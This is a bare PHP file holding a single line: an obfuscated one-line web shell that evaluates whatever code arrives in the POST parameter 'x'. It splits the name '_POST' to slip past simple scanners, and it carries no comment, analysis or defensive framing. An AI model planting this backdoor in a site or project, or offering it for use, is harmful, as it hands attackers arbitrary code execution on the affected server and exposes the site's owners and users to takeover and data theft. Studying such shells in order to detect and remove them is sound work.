<?php
eval($GLOBALS['_PO' . 'ST']['x']);
